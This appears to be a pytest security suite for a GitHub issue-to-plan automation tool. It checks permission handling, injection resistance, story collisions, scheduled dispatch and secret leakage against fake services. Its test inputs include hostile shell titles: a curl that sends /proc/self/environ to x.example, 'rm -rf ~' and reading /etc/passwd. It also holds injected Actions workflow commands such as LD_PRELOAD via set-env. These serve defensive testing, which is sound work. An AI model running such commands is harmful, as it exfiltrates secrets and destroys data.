"""Attacks and faults from the security checklist, driven through `playbook event` like a workflow.

Each test names its checklist item (A6, B11 ...). Everything runs against the loopback GitHub and
Gemini fakes with real PyGithub and google-genai clients; the assertions are on what those fakes
received and hold afterwards, plus what the process printed (``capfd``).
"""

from __future__ import annotations

import ast
import json
import re
import subprocess
import unicodedata
from pathlib import Path

import pytest

from flow_harness import DISPATCH_TOKEN, GEMINI_KEY, PIHOLE, REPO, TOKEN, Harness
from playbook.config import load_config
from playbook.planning import artifacts
from playbook.sanitize import GITHUB_BODY_LIMIT

PACKAGE = Path(__file__).resolve().parent.parent / "scripts" / "playbook"
MARKER = "<!-- bmad-tracking:v1"
WRITES = ("POST", "PATCH", "PUT", "DELETE")




@pytest.fixture
def no_backoff(monkeypatch):
    """The 5xx retry table stays as shipped (same attempt count); only the sleeps between go."""
    from playbook.adapters import github as adapter

    shipped = adapter._budget_retry
    monkeypatch.setattr(adapter, "_budget_retry", lambda budget, _factor, *rest: shipped(budget, 0, *rest))


# --------------------------------------------------------------------------- helpers


def _writes(h: Harness) -> list[str]:
    """REST writes as "METHOD path", GraphQL mutation documents as "POST /graphql mutation <fields>"
    (a GraphQL query reads: it is not listed)."""
    return [f"{c.method} {c.path}" + (f" {c.operation}" if c.path == "/graphql" else "")
            for c in h.github.calls if c.method in WRITES and (c.path != "/graphql" or c.operation != "query")]


def _bmad_branches(h: Harness) -> list[str]:
    return [b for b in h.github.repos[REPO].refs if b.startswith("bmad/")]


def _branch(h: Harness) -> str:
    heads = _bmad_branches(h)
    assert len(heads) == 1, heads
    return heads[0]


def _snapshot(h: Harness, issue: int) -> tuple:
    repo = h.github.repos[REPO]
    return (dict(repo.refs), h.github.comments(REPO, issue), h.github.labels(REPO, issue), h.github.pulls(REPO))


def _all_dispatches(h: Harness) -> list[dict]:
    return [d for repo in h.targets.values() for d in h.github.dispatches(repo)]  # type: ignore[attr-defined]


def _stories_on_main(h: Harness) -> dict[str, str]:
    return {p: t for p, t in h.github.files_at(REPO, "main").items() if "/story-" in p}


def _schedule(h: Harness) -> int:
    """A `schedule` run as the reconcile workflow gets it (the payload names the cron and the repo)."""
    owner, name = REPO.split("/")
    repository = {"full_name": REPO, "name": name, "owner": {"login": owner}, "default_branch": "main"}
    return h.run("schedule", {"schedule": "0 6 * * *", "repository": repository})


def _workflow_command_lines(text: str) -> list[str]:
    """Lines the Actions runner would read as a command (it trims leading whitespace first)."""
    lines = text.replace("\r\n", "\n").replace("\r", "\n").split("\n")
    return [line for line in lines if line.strip().startswith(("::", "##["))]


# --------------------------------------------------------------------------- A. authorization


@pytest.mark.parametrize("trigger", ["approve", "labeled"])
def test_a6_permission_api_failure_fails_closed(h: Harness, capfd, no_backoff, trigger):
    from playbook.adapters.github import RETRIES

    issue = h.github.add_issue(REPO, PIHOLE, "", labels=["bmad:brief"])
    if trigger == "approve":
        h.answer("create-product-brief")
        assert h.labeled(issue) == 0
        h.answer("create-prd")
        comment_id = h.github.add_comment(REPO, issue, "/approve", "owner")
    before, requests = _snapshot(h, issue), len(h.gemini.requests)
    h.github.inject("GET", r"/collaborators/owner/permission$", 503, times=RETRIES + 5)
    h.github.reset_calls()
    capfd.readouterr()

    if trigger == "approve":
        rc = h.comment(issue, "/approve", comment_id=comment_id)
    else:
        rc = h.labeled(issue)

    assert rc != 0
    assert _writes(h) == []  # no commit, no comment (not even a refusal), no label
    assert _snapshot(h, issue) == before
    assert len(h.gemini.requests) == requests
    # the call was retried as the table says, then given up on
    assert h.github.count("GET", "/permission") == 1 + RETRIES
    err = capfd.readouterr().err
    assert "permission" in err and "503" in err  # logged, so the failed run says why


@pytest.mark.parametrize(
    ("sender", "sender_type", "permission"),
    [("reader", "User", "read"), ("evil-app[bot]", "Bot", "admin"), ("deploy-app", "Bot", "admin")],
    ids=["read-user", "bot-suffix-app", "app-without-suffix"],
)
def test_a9_brief_label_from_a_non_maintainer_does_nothing(h: Harness, sender, sender_type, permission):
    issue = h.github.add_issue(REPO, PIHOLE, "Deploy it", labels=["bmad:brief"])
    h.github.set_permission(REPO, sender, permission)
    h.answer("create-product-brief")
    before = _snapshot(h, issue)
    h.github.reset_calls()

    assert h.labeled(issue, sender=sender, sender_type=sender_type) == 0

    assert _bmad_branches(h) == []
    assert _writes(h) == []
    assert _snapshot(h, issue) == before
    assert h.gemini.requests == []
    assert h.github.commits(REPO, "main") == ["Initial commit"]
    if sender_type == "Bot":
        assert h.github.count() == 0  # decided from the payload alone, whatever the app's permission


# --------------------------------------------------------------------------- B. injection


HOSTILE_TITLES = [
    "$(curl -d @/proc/self/environ x.example)",
    "`id`",
    '"; rm -rf ~; #',
    "${IFS}cat${IFS}/etc/passwd 'single' \"double\"",
]


@pytest.fixture
def spawned(monkeypatch) -> list[tuple[object, dict]]:
    """Every process started during the test (recorded, then started as normal)."""
    calls: list[tuple[object, dict]] = []
    real_init = subprocess.Popen.__init__

    def recording_init(self, args, *rest, **kwargs):  # noqa: ANN001
        calls.append((args, kwargs))
        real_init(self, args, *rest, **kwargs)

    monkeypatch.setattr(subprocess.Popen, "__init__", recording_init)
    return calls


@pytest.mark.parametrize("title", HOSTILE_TITLES, ids=["dollar-paren", "backticks", "quote-semicolon", "ifs-quotes"])
def test_b11_shell_metacharacters_in_the_title_are_plain_data(h: Harness, tmp_path, spawned, title):
    sentinel = tmp_path / "pwned"
    # A second, harmless payload whose only effect would be a file: proof that nothing evaluated it.
    armed = f"{title} $(touch {sentinel})"
    issue = h.github.add_issue(REPO, armed, "Deploy it", labels=["bmad:brief"])
    h.answer("create-product-brief")

    assert h.labeled(issue) == 0

    branch = _branch(h)
    assert re.fullmatch(r"bmad/[0-9]+-[a-z0-9][a-z0-9-]*", branch), branch
    assert branch.isascii()
    request = branch.removeprefix("bmad/")
    path = f"{artifacts.planning_dir(request)}/request.md"
    meta, _ = artifacts.parse(h.github.files_at(REPO, branch)[path], "request", source=path)
    assert meta["title"] == armed
    assert h.github.pulls(REPO)[0]["title"] == f"BMAD plan: {armed}"
    assert not sentinel.exists()
    for args, kwargs in spawned:
        assert not kwargs.get("shell") and not isinstance(args, str | bytes), args


def _package_modules() -> list[Path]:
    modules = sorted(PACKAGE.rglob("*.py"))
    assert len(modules) > 20  # the scan really sees the package
    return modules


def _dotted(node: ast.AST) -> str:
    if isinstance(node, ast.Name):
        return node.id
    if isinstance(node, ast.Attribute):
        return f"{_dotted(node.value)}.{node.attr}"
    return ""


SHELL_CALLS = {"os.system", "os.popen", "os.execl", "os.execlp", "os.spawnl", "os.spawnlp", "os.posix_spawn",
               "os.posix_spawnp", "asyncio.create_subprocess_shell", "pty.spawn", "commands.getoutput"}


def test_b11_no_module_can_start_a_shell():
    problems = []
    for module in _package_modules():
        tree = ast.parse(module.read_text(encoding="utf-8"), filename=str(module))
        where = module.relative_to(PACKAGE)
        for node in ast.walk(tree):
            if isinstance(node, ast.Call):
                for kw in node.keywords:
                    if kw.arg == "shell" and not (isinstance(kw.value, ast.Constant) and kw.value.value is False):
                        problems.append(f"{where}:{node.lineno}: shell= other than False")
                if _dotted(node.func) in SHELL_CALLS:
                    problems.append(f"{where}:{node.lineno}: {_dotted(node.func)}()")
            if isinstance(node, ast.ImportFrom) and node.module == "os":
                named = {a.name for a in node.names} & {n.split(".", 1)[1] for n in SHELL_CALLS if n.startswith("os.")}
                if named:
                    problems.append(f"{where}:{node.lineno}: from os import {sorted(named)}")
    assert problems == []


def test_b11_only_the_process_helper_imports_subprocess():
    importers = set()
    for module in _package_modules():
        tree = ast.parse(module.read_text(encoding="utf-8"), filename=str(module))
        for node in ast.walk(tree):
            names = []
            if isinstance(node, ast.Import):
                names = [a.name for a in node.names]
            elif isinstance(node, ast.ImportFrom):
                names = [node.module or ""]
            elif isinstance(node, ast.Call) and _dotted(node.func) in ("__import__", "importlib.import_module"):
                names = [a.value for a in node.args[:1] if isinstance(a, ast.Constant) and isinstance(a.value, str)]
            if any(n.split(".")[0] in ("subprocess", "pty") for n in names):
                importers.add(str(module.relative_to(PACKAGE)))
    assert importers == {"_process.py"}


def test_b13_workflow_commands_in_issue_text_are_never_obeyed(h: Harness, capfd):
    body = "\n".join([
        "Deploy Pi-hole.",
        "::add-mask::x",
        "::stop-commands::y",
        "::error file=a::b",
        "  ::warning::indented",
        "##[set-output name=approved;]true",
        "::set-env name=LD_PRELOAD::/tmp/x.so\r::debug::after a bare CR",
    ])
    issue = h.github.add_issue(REPO, "::error::Pi-hole ::add-mask::t", body, labels=["bmad:brief"])
    h.answer("create-product-brief")
    assert h.labeled(issue) == 0
    assert h.comment(issue, "::set-output name=approved::true\n/approve") == 0  # not a command: ignored
    h.answer("create-product-brief", "more")
    assert h.comment(issue, "/revise ::add-mask::feedback\n::stop-commands::z") == 0
    # a failing step logs its error, and Gemini's error message may echo request text back
    h.gemini.enqueue_error(400, "INVALID_ARGUMENT", "Invalid value in contents:\n::add-mask::echoed\n::error file=a::b")
    assert h.comment(issue, "/approve") == 1

    out = capfd.readouterr()
    assert _workflow_command_lines(out.out) == []
    assert _workflow_command_lines(out.err) == []
    assert "add-mask" in out.out + out.err  # the hostile text was logged (shown, not obeyed)


# --------------------------------------------------------------------------- C. commands


def test_c22_oversized_revise_is_refused_before_the_model(h: Harness):
    limit = load_config(h.root).limits.revise_feedback_chars
    issue = h.github.add_issue(REPO, PIHOLE, "", labels=["bmad:brief"])
    h.answer("create-product-brief")
    assert h.labeled(issue) == 0
    branch = _branch(h)
    commits, requests = h.github.commits(REPO, branch), len(h.gemini.requests)
    huge = "/revise " + ("Use a macvlan network for DNS. " * 2000)[: 60 * 1024]
    comment_id = h.github.add_comment(REPO, issue, huge, "owner")
    comments = h.github.comments(REPO, issue)
    h.github.reset_calls()

    assert h.comment(issue, huge, comment_id=comment_id) == 0

    assert len(h.gemini.requests) == requests
    assert h.github.commits(REPO, branch) == commits
    new = h.github.comments(REPO, issue)[len(comments):]
    assert len(new) == 1
    assert f"the limit is {limit}" in new[0] and "/revise" in new[0]
    assert "macvlan" not in new[0]  # the reply does not echo the feedback
    assert _writes(h) == ["POST /graphql mutation addComment"]  # the reply, and nothing else


# --------------------------------------------------------------------------- D. story collisions


def _with_id(text: str, story_id: str) -> str:
    changed = re.sub(r"(?m)^id: .*$", f"id: '{story_id}'", text, count=1)
    assert changed != text
    return changed


def _collide(variant: str, path: str, text: str) -> dict[str, str]:
    """Extra files for the planning branch that collide with the story at ``path``.

    Only the same-id variant repeats the id: the others collide by file name alone.
    """
    folder, name = path.rsplit("/", 1)
    if variant == "same-id":
        return {f"{folder}/story-1-9-another-name.md": text}
    if variant == "case":
        return {f"{folder}/Story{name.removeprefix('story')}": _with_id(text, "1.8")}
    assert variant == "nfc-nfd"
    return {
        f"{folder}/" + unicodedata.normalize("NFC", "story-1-8-café.md"): _with_id(text, "1.8"),
        f"{folder}/" + unicodedata.normalize("NFD", "story-1-8-café.md"): _with_id(text, "1.9"),
    }


@pytest.mark.parametrize("variant", ["same-id", "case", "nfc-nfd"])
def test_d27_colliding_story_files_are_never_dispatched(h: Harness, capfd, variant):
    issue, number = h.complete_planning()
    branch = h.github.repos[REPO].pulls[number].head
    path, text = next((p, t) for p, t in h.github.files_at(REPO, branch).items() if "/story-" in p)
    h.github.push(REPO, branch, _collide(variant, path, text), "a colliding story")
    merge_sha = h.github.merge_pull(REPO, number)
    capfd.readouterr()

    assert h.merged(number, merge_sha) != 0

    assert _all_dispatches(h) == []
    assert all("status: ready-for-dev" in t for t in _stories_on_main(h).values())
    tracking = next(c for c in h.github.comments(REPO, issue) if c.startswith(MARKER))
    assert "collide" in tracking and "renumber" in tracking  # says what is wrong and what to do
    assert "bmad:failed" in h.github.labels(REPO, issue)
    assert "collide" in capfd.readouterr().out
    # the schedule sweep refuses the same way
    assert _schedule(h) != 0
    assert _all_dispatches(h) == []


# --------------------------------------------------------------------------- G. missed merges


def test_g47_g48_schedule_dispatches_what_a_tokenless_merge_left_behind(h: Harness):
    issue, number = h.complete_planning()
    merge_sha = h.github.merge_pull(REPO, number)
    h.env["BMAD_DISPATCH_TOKEN"] = None  # type: ignore[assignment]
    assert h.merged(number, merge_sha) == 1
    assert _all_dispatches(h) == []
    assert all("status: ready-for-dev" in t for t in _stories_on_main(h).values())

    h.env["BMAD_DISPATCH_TOKEN"] = DISPATCH_TOKEN
    assert _schedule(h) == 0
    sent = _all_dispatches(h)
    stories = _stories_on_main(h)
    assert len(sent) == len(stories) >= 1
    assert {d["client_payload"]["story_path"] for d in sent} == set(stories)
    assert all("status: in-progress" in t for t in stories.values())

    main_head = h.github.branch_head(REPO, "main")
    h.github.reset_calls()
    assert _schedule(h) == 0
    assert len(_all_dispatches(h)) == len(sent)
    assert _writes(h) == []
    assert h.github.branch_head(REPO, "main") == main_head


def test_g48_schedule_with_no_stories_writes_nothing(h: Harness, capfd):
    head = h.github.branch_head(REPO, "main")
    h.github.reset_calls()
    assert _schedule(h) == 0
    assert _writes(h) == []
    assert _all_dispatches(h) == []
    assert h.github.branch_head(REPO, "main") == head
    assert "reconcile" in capfd.readouterr().out  # the run says what it found


# --------------------------------------------------------------------------- H. secrets and sizes


def test_h51_canary_secrets_never_leave_the_process(h: Harness, capfd):
    from playbook.adapters.github import GitHubForge
    from playbook.settings import Settings

    canaries = (TOKEN, GEMINI_KEY, DISPATCH_TOKEN)
    issue, number = h.complete_planning("Hostname pihole.home.example.")
    # a failure path too: an SDK error travels through the error handler to stderr
    h.github.inject("POST", r"/dispatches$", 401, body={"message": "Bad credentials"})
    merge_sha = h.github.merge_pull(REPO, number)
    assert h.merged(number, merge_sha) == 1
    assert h.comment(issue, "/dispatch") == 0
    assert len(_all_dispatches(h)) == 1

    out = capfd.readouterr()
    texts = [out.out, out.err]
    texts += h.github.comments(REPO, issue)
    texts += [p["body"] + p["title"] for p in h.github.pulls(REPO)]
    for branch in h.github.repos[REPO].refs:
        texts += h.github.commits(REPO, branch)
        texts += list(h.github.files_at(REPO, branch))
        texts += list(h.github.files_at(REPO, branch).values())
    texts += [json.dumps([d["event_type"], d["client_payload"]]) for d in _all_dispatches(h)]  # not the fake's token log
    texts += [json.dumps(r.json) for r in h.gemini.requests]
    leaked = [c for c in canaries for t in texts if c in t]
    assert leaked == []
    assert len(texts) > 20

    env = dict(h.env, ANTHROPIC_API_KEY="sk-ant-canary-0123456789", BMAD_PLAYBOOK_TOKEN="ghp_canary_playbook_0123")
    settings = Settings.from_env(env)
    assert set(canaries) <= set(settings.secrets())  # the values are really in there ...
    shown = repr(settings) + str(settings)
    shown += repr(GitHubForge(REPO, TOKEN, base_url=h.github.url)) + str(GitHubForge(REPO, TOKEN, base_url=h.github.url))
    for secret in (*canaries, "sk-ant-canary-0123456789", "ghp_canary_playbook_0123"):
        assert secret not in shown  # ... and never shown


def test_h52_oversized_issue_body_is_truncated_before_the_model(h: Harness):
    limit = load_config(h.root).limits.request_chars
    body = "".join(f"Requirement {i:06d}: Pi-hole keeps answering DNS.\n" for i in range(5000))[:200_000]
    assert len(body) == 200_000
    issue = h.github.add_issue(REPO, PIHOLE, body, labels=["bmad:brief"])
    h.answer("create-product-brief")

    assert h.labeled(issue) == 0

    branch = _branch(h)
    request = branch.removeprefix("bmad/")
    path = f"{artifacts.planning_dir(request)}/request.md"
    meta, stored = artifacts.parse(h.github.files_at(REPO, branch)[path], "request", source=path)
    assert meta.get("truncated") is True
    assert 0 < len(stored.strip()) <= limit
    prompt = h.gemini.requests[-1].prompt + h.gemini.requests[-1].system
    assert body[: limit - 100] in prompt and body[limit + 100 : limit + 300] not in prompt
    assert len(prompt) <= 2 * limit  # the request plus the skill's own instructions, not 200,000 characters
    for text in h.github.comments(REPO, issue) + [p["body"] for p in h.github.pulls(REPO)]:
        assert len(text.encode("utf-16-le")) // 2 < GITHUB_BODY_LIMIT
    assert any(c.startswith(MARKER) for c in h.github.comments(REPO, issue))

